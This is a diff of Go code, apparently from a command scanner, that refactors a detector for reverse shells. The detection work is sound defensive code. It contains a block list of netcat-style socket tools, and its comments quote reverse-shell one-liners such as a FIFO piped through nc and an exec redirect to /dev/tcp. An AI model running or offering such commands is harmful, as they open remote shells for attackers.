@@ -133,32 +133,50 @@ var socketClients = []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openb
 // client (the fifo reverse shell: cat f | sh -i 2>&1 | nc h p > f).
 func checkSocketShell(c *Call) Finding {
 	ex := c.Ex
-	if slices.Contains(socketClients, ex.Name) && ex.Stdin != nil {
-		for _, p := range ex.Stdin.Producers {
-			if isRemoteShell(p.Name) && readsCommandsFromStdin(p) {
-				return hit(p.Name + " reads its commands from a pipe and sends its output through " + ex.Name + ": a shell for whoever is at the other end")
-			}
-		}
+	if f := shellPipedToSocket(ex); f.Hit {
+		return f
 	}
 	if !isRemoteShell(ex.Name) {
 		return Finding{}
 	}
-	// Descriptors opened on the network earlier in the command line
-	// (exec 5<>/dev/tcp/h/p), and by this command's own redirections.
-	netFds := map[string]bool{}
-	for _, e := range c.Res.Execs {
-		for _, r := range e.Redirs {
-			if netPathRe.MatchString(r.Target) && r.Fd != "" && (e == ex || e.Name == "exec" || e.Name == "") {
-				netFds[r.Fd] = true
-			}
-		}
-	}
+	netFds := networkFds(c.Res, ex)
 	for _, r := range ex.Redirs {
 		if netPathRe.MatchString(r.Target) || (r.Op == "<&" || r.Op == ">&" || r.Op == "<>") && netFds[r.Target] {
 			return hit(ex.Name + " is joined to a network connection (" + r.Op + " " + c.Show(r.Target) + "): a shell for whoever is at the other end")
 		}
 	}
 	return Finding{}
+}
+
+// shellPipedToSocket: a shell reading its commands from a pipe whose
+// output a socket client sends (sh -i 2>&1 | nc host 4444).
+func shellPipedToSocket(ex *shell.Exec) Finding {
+	if !slices.Contains(socketClients, ex.Name) || ex.Stdin == nil {
+		return Finding{}
+	}
+	for _, p := range ex.Stdin.Producers {
+		if isRemoteShell(p.Name) && readsCommandsFromStdin(p) {
+			return hit(p.Name + " reads its commands from a pipe and sends its output through " + ex.Name + ": a shell for whoever is at the other end")
+		}
+	}
+	return Finding{}
+}
+
+// networkFds are the descriptors opened on the network earlier in the
+// command line (exec 5<>/dev/tcp/h/p), and by ex's own redirections.
+func networkFds(res *shell.Result, ex *shell.Exec) map[string]bool {
+	netFds := map[string]bool{}
+	for _, e := range res.Execs {
+		if e != ex && e.Name != "exec" && e.Name != "" {
+			continue
+		}
+		for _, r := range e.Redirs {
+			if netPathRe.MatchString(r.Target) && r.Fd != "" {
+				netFds[r.Fd] = true
+			}
+		}
+	}
+	return netFds
 }
 
 // readsCommandsFromStdin reports whether a shell or interpreter runs what
